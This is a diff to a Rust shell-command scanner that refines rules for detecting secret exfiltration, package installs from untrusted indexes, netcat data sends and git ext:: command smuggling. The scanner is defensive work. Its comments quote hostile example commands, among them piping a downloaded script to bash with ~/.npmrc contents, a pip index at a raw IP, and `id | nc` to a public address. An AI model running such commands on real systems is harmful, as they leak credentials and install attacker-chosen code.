@@ -2127,15 +2127,74 @@ fn judge(cmds: &[Cmd], out: &mut Out<'_>) {
             let reads_secret = c.arg_texts().any(sensitive)
                 || matches!(n.as_str(), "env" | "printenv")
                 || feeds.iter().any(|f| f.arg_texts().any(sensitive));
+            // A secret provisioned for the service it is sent to (a Docker or
+            // Kubernetes secret file, `$(cat /run/secrets/es_password)`) over
+            // HTTPS to a named host is how that service authenticates.
+            let files: Vec<&str> = c.arg_texts().chain(feeds.iter().flat_map(|f| f.arg_texts())).filter(|t| sensitive(t)).collect();
+            let provisioned = reads_secret
+                && !matches!(n.as_str(), "env" | "printenv")
+                && !files.is_empty()
+                && files.iter().all(|t| {
+                    let t = t.trim_matches(['"', '\'']);
+                    t.starts_with("/run/secrets/") || t.starts_with("/var/run/secrets/")
+                });
+            let named_https = url_of(p).is_some_and(|u| {
+                let host = u.strip_prefix("https://").map(|r| r.split(['/', ':', '?']).next().unwrap_or(""));
+                host.is_some_and(|h| h.contains('.') && h.parse::<std::net::Ipv4Addr>().is_err())
+            });
             // A script fetched from the network and run (`curl ... | bash -s
-            // -- --extra "$(cat ~/.npmrc)"`) is handed the secrets too.
-            let downloaded = is_interp(pn) && reads_stdin(p) && feeders(cmds, p).iter().any(|f| DOWNLOADERS.contains(&f.name()));
-            if pn_net && !c.via_data || (SENDERS.contains(&pn) || downloaded) && reads_secret {
+            // -- --extra "$(cat ~/.npmrc)"`, through `sudo` too) is handed the
+            // secrets; one provisioned for that service is its enrollment.
+            let interpreter = if pn == "sudo" {
+                p.arg_texts().find(|a| !a.starts_with('-')).map(|a| base(a).to_owned()).unwrap_or_default()
+            } else {
+                pn.to_owned()
+            };
+            let downloaded = is_interp(&interpreter)
+                && (reads_stdin(p) || pn == "sudo")
+                && feeders(cmds, p).iter().any(|f| DOWNLOADERS.contains(&f.name()))
+                && !provisioned;
+            let sent = SENDERS.contains(&pn) && !(provisioned && named_https);
+            if pn_net && !c.via_data || (sent || downloaded) && reads_secret {
                 out.push(Confidence::High, "shell.exfiltration", at);
             } else if matches!(pn, "curl" | "wget") && matches!(n.as_str(), "whoami" | "id" | "hostname" | "uname") {
                 let risk = url_risk(url_of(p).as_deref());
                 out.push(if risk == Confidence::High { Confidence::High } else { Confidence::Low }, "shell.exfiltration", at);
             }
+        }
+        // Packages from an index at a raw address or over plain HTTP
+        // (`pip install x --index-url http://141.183.36.74:8080/simple`):
+        // whoever runs it chooses the code that is installed and run.
+        if matches!(n.as_str(), "pip" | "pip3" | "npm" | "pnpm" | "yarn" | "uv" | "poetry" | "gem")
+            && args.iter().any(|a| matches!(*a, "install" | "add" | "i"))
+        {
+            let mut prev = "";
+            for a in &args {
+                let inline = ["--index-url=", "--extra-index-url=", "--registry=", "--source="].iter().find_map(|p| a.strip_prefix(p));
+                let url =
+                    if matches!(prev, "--index-url" | "--extra-index-url" | "-i" | "--registry" | "--source") { Some(*a) } else { inline };
+                if let Some(u) = url
+                    && url_risk(Some(u)) == Confidence::High
+                {
+                    out.push(Confidence::High, "shell.untrusted-package-source", at);
+                    break;
+                }
+                prev = a;
+            }
+        }
+        // A raw TCP client fed with data (`id | nc 198.51.100.4 4444`,
+        // `nc host 4444 < /tmp/o`): whatever it reads goes to the host.
+        // (Not listening, not a port scan.)
+        if matches!(n.as_str(), "nc" | "ncat" | "netcat")
+            && !args.iter().any(|a| a.starts_with('-') && (a.contains('l') || a.contains('z')))
+            && (!feeds.is_empty() || c.redirs.iter().any(|(op, _)| *op == "<"))
+            && let Some(host) = args.iter().find(|a| !a.starts_with('-'))
+        {
+            // A public address is someone's listener; a name or a local
+            // address is as often a health check (`echo ping | nc -w1 localhost 6379`).
+            let ip = host.parse::<std::net::Ipv4Addr>().ok();
+            let public = ip.is_some_and(|ip| !(ip.is_loopback() || ip.is_private() || ip.is_link_local() || ip.is_unspecified()));
+            out.push(if public { Confidence::High } else { Confidence::Low }, "shell.exfiltration", at);
         }
         // Exfiltration: data arguments, pipelines, input redirections.
         if matches!(n.as_str(), "curl" | "wget") {
@@ -3556,9 +3615,14 @@ fn execution_option(t: &str) -> Option<Range<usize>> {
     // A git remote of the `ext::` transport is a command git runs
     // (`ext::sh -c touch% /tmp/x`, `%` standing for a space): wherever a
     // repository URL goes (clone, submodule, fetch).
+    // (`ext::StreamExt::next`, `ext::install();` are code paths: the
+    // command's first word ends at a space or `%` and holds no `::` or `(`.)
     let lead = t.len() - t.trim_start().len();
-    if t.trim_start().strip_prefix("ext::").is_some_and(|c| c.trim_start().len() > 1) {
-        return Some(lead..t.len().min(lead + 64));
+    if let Some(command) = t.trim_start().strip_prefix("ext::") {
+        let first = command.split([' ', '%']).next().unwrap_or("");
+        if command.len() > first.len() && !first.is_empty() && !first.contains("::") && !first.contains('(') {
+            return Some(lead..t.len().min(lead + 64));
+        }
     }
     if !t.contains('-') {
         return None;
@@ -3865,6 +3929,7 @@ fn text_rules(text: &str, out: &mut Vec<Hit>) {
 /// Whether a rule looks at commands of this name.
 fn relevant(n: &str) -> bool {
     is_interp(n)
+        || matches!(n, "pip" | "pip3" | "npm" | "pnpm" | "yarn" | "uv" | "poetry" | "gem")
         || DOWNLOADERS.contains(&n)
         || SENDERS.contains(&n)
         || NET_CLIENTS.contains(&n)
